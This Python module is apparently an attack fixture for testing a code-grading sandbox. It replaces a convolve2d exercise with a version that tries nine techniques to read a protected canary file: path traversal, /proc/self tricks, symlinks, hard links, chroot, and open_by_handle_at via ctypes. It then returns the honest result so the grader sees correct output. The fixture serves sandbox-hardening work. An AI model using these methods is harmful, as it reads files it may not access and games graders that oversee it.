# mypy: ignore-errors
"""Reaches a file by links, by folders opened only as a path, by `..`, by /proc/self and by changing the root.

Attacks: convolve2d
Earns: all
Process level: cannot stop it
"""

import ctypes
import os
import sys

from chapter04_convolution import convolve2d as honest

PATH = "{canary_path}"


def by_folder():
    return os.open(PATH.lstrip("/"), os.O_RDONLY, dir_fd=os.open("/", os.O_PATH))


def by_library():
    library = os.open(os.path.dirname(os.__file__), os.O_RDONLY | os.O_DIRECTORY)
    return os.open("../" * 20 + PATH.lstrip("/"), os.O_RDONLY, dir_fd=library)


def by_path_only():
    return os.open(f"/proc/self/fd/{os.open(PATH, os.O_PATH)}", os.O_RDONLY)


def by_own_root():
    return os.open(f"/proc/self/root{PATH}", os.O_RDONLY)


def by_link():
    os.symlink(PATH, "{temporary}/{marker}")
    return os.open("{temporary}/{marker}", os.O_RDONLY)


def by_hard_link():
    link = os.path.join(os.path.dirname(os.__file__), "{marker}")
    os.link(PATH, link)
    return os.open(link, os.O_RDONLY)


def by_new_root():
    os.chroot(os.path.dirname(PATH))
    return os.open("/" + os.path.basename(PATH), os.O_RDONLY)


def by_current_folder():
    os.chdir(os.path.dirname(PATH))
    return os.open(os.path.basename(PATH), os.O_RDONLY)


def by_handle():
    libc = ctypes.CDLL(None, use_errno=True)
    handle = (ctypes.c_char * 136)()
    ctypes.c_uint.from_buffer(handle).value = 128
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, PATH.encode(), handle, ctypes.byref(mount), 0):
        raise OSError(ctypes.get_errno())
    return libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, 0)


def convolve2d(image, kernel):
    for way in (
        by_folder,
        by_library,
        by_path_only,
        by_own_root,
        by_link,
        by_hard_link,
        by_new_root,
        by_current_folder,
        by_handle,
    ):
        try:
            print(os.read(way(), 100))
        except Exception as error:
            print(way.__name__, error, file=sys.stderr)
    return honest(image, kernel)
